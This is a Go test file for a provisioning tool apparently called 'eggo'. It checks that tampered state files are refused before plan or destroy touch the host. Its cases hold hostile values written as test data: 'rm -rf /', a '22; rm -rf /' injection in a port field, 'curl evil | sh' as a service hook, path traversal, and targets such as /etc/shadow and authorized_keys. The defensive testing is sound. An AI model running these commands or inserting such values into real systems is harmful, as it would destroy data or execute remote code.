package command

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

// A state whose records eggo would not have written is refused when it is
// read, by plan and by destroy alike: the error names the resource and
// what is wrong, nothing on the host is touched, and the state file keeps
// its bytes. Destroy would otherwise remove every recorded created path
// and move every recorded backup over its original, whatever they were.
func TestCraftedStateRefusedAtRead(t *testing.T) {
	f := newFixture(t)
	f.mustRun(0, "apply", "-auto-approve")
	good, err := os.ReadFile(f.statePath())
	if err != nil {
		t.Fatal(err)
	}
	hello := filepath.Join(f.root, "opt/app/hello.txt")
	type edit func(top, host, attrs map[string]any)
	appendTo := func(attrs map[string]any, name string, entry map[string]any) {
		list, ok := attrs[name].([]any)
		if !ok {
			t.Fatalf("%s is %T in the fixture's state", name, attrs[name])
		}
		attrs[name] = append(list, entry)
	}
	for _, c := range []struct {
		name string
		edit edit
		want string
	}{
		{"wrong kind", func(_, h, _ map[string]any) { h["kind"] = "cert" },
			`host.n1 is recorded as kind "cert", but its address is of kind "host"`},
		{"null attributes", func(_, h, _ map[string]any) { h["attributes"] = nil },
			"resource host.n1: attributes is null"},
		{"bad address", func(_, h, _ map[string]any) { h["address"] = "host.n1/../../etc" },
			`the address "host.n1/../../etc" is not KIND.NAME`},
		{"null address", func(_, _, a map[string]any) { a["address"] = nil },
			"host.n1: address is null, not a string"},
		{"connection port a string", func(_, _, a map[string]any) { a["connection"].(map[string]any)["port"] = "22; rm -rf /" },
			"host.n1: connection.port is a string, not a whole number"},
		{"malformed host key", func(top, _, _ map[string]any) { top["host_keys"] = map[string]any{"n1": "ssh-ed25519 AAAA!"} },
			"host_keys.n1 is not an SSH public key"},
		{"malformed recipient", func(top, _, _ map[string]any) { top["recipients"] = []any{"age1notakey"} },
			"recipients[0] is not a recipient"},
		{"created /etc/passwd", func(_, _, a map[string]any) {
			appendTo(a, "created", map[string]any{"path": "/etc/passwd", "type": "file"})
		}, "host.n1: created[5]: the file /etc/passwd is not one the host records installing (files)"},
		{"created ../../x", func(_, _, a map[string]any) {
			appendTo(a, "created", map[string]any{"path": "../../x", "type": "dir"})
		}, `host.n1: created[5].path: "../../x" is not an absolute, clean path`},
		{"backup elsewhere", func(_, _, a map[string]any) {
			appendTo(a, "replaced", map[string]any{"path": hello, "backup": "/etc/shadow", "sha256": strings.Repeat("0", 64)})
		}, `host.n1: replaced[0]: the backup of ` + hello + ` is recorded as "/etc/shadow", but eggo keeps it at /var/lib/eggo/backup` + hello},
		// A service's cleanup runs as root at its delete: only eggo's own
		// cleanups are (today's, for the parameters of the one recorded).
		{"service cleanup rm -rf /", withService("cleanup", "rm -rf / #"),
			`service.kube-proxy["n1"]: cleanup is not a cleanup eggo makes for the kube-proxy service`},
		{"service cleanup curl | sh", withService("cleanup", "curl evil | sh"),
			`service.kube-proxy["n1"]: cleanup is not a cleanup eggo makes for the kube-proxy service`},
		{"service post_start curl | sh", withService("post_start", "curl evil | sh"),
			`service.kube-proxy["n1"]: post_start is not one eggo makes for the kube-proxy service`},
		{"service file /etc/shadow", withService("file_modes", map[string]any{"/etc/kubernetes/kube-proxy/config.yaml": "0644", "/etc/shadow": "0600"}),
			`service.kube-proxy["n1"]: file_modes: /etc/shadow is not where eggo writes the files of the kube-proxy service (CONFIG_DIR/kube-proxy/NAME)`},
		{"service file authorized_keys", withService("file_modes", map[string]any{"/root/.ssh/authorized_keys": "0600"}),
			`service.kube-proxy["n1"]: file_modes: /root/.ssh/authorized_keys is not where eggo writes the files of the kube-proxy service`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if strings.HasPrefix(c.name, "service ") {
				withAllKinds(t) // the service kind checks its own records
			}
			crafted := craftState(t, good, c.edit)
			if err := os.WriteFile(f.statePath(), crafted, 0o600); err != nil {
				t.Fatal(err)
			}
			files := f.rootFiles()
			for _, args := range [][]string{{"plan"}, {"destroy", "-auto-approve"}} {
				r := f.run(args...)
				if r.code != 1 || !strings.Contains(r.err, c.want) {
					t.Errorf("eggo %s: exit %d, want 1 and an error saying %q\nstdout:\n%s\nstderr:\n%s", args[0], r.code, c.want, r.out, r.err)
				}
				if after, _ := os.ReadFile(f.statePath()); string(after) != string(crafted) {
					t.Errorf("eggo %s changed the refused state file", args[0])
				}
				if got := f.rootFiles(); !reflect.DeepEqual(got, files) {
					t.Errorf("eggo %s changed the host: %v, was %v", args[0], got, files)
				}
			}
		})
	}
	if err := os.WriteFile(f.statePath(), good, 0o600); err != nil {
		t.Fatal(err)
	}
	f.mustRun(0, "destroy", "-auto-approve") // the state as eggo wrote it still reads
}

// withService is an edit adding to the state n1's kube-proxy service as
// eggo records it, but for its attribute attr, which is value.
func withService(attr string, value any) func(top, host, attrs map[string]any) {
	return func(top, _, hostAttrs map[string]any) {
		attrs := map[string]any{
			"component": "kube-proxy", "unit_name": "kube-proxy.service", "unit": "[Service]\nExecStart=/usr/local/bin/kube-proxy\n",
			"file_modes":   map[string]any{"/etc/kubernetes/kube-proxy/config.yaml": "0644"},
			"file_digests": map[string]any{"/etc/kubernetes/kube-proxy/config.yaml": strings.Repeat("0", 64)},
			"cleanup":      "/usr/local/bin/kube-proxy --cleanup >/dev/null 2>&1; true", "post_start": "",
			"data_dirs": []any{}, "created_dirs": []any{}, "owned_data": []any{}, "version": "1.31.4",
			"address": hostAttrs["address"], "connection": hostAttrs["connection"],
		}
		attrs[attr] = value
		top["resources"] = append(top["resources"].([]any), map[string]any{
			"address": `service.kube-proxy["n1"]`, "kind": "service", "node": "n1", "attributes": attrs})
	}
}

// craftState is the state file data with the host's record edited as JSON.
func craftState(t *testing.T, data []byte, edit func(top, host, attrs map[string]any)) []byte {
	t.Helper()
	var top map[string]any
	if err := json.Unmarshal(data, &top); err != nil {
		t.Fatal(err)
	}
	resources, _ := top["resources"].([]any)
	if len(resources) != 1 {
		t.Fatalf("the fixture's state holds %d resources, want its host", len(resources))
	}
	host := resources[0].(map[string]any)
	edit(top, host, host["attributes"].(map[string]any))
	out, err := json.MarshalIndent(top, "", "\t")
	if err != nil {
		t.Fatal(err)
	}
	return out
}
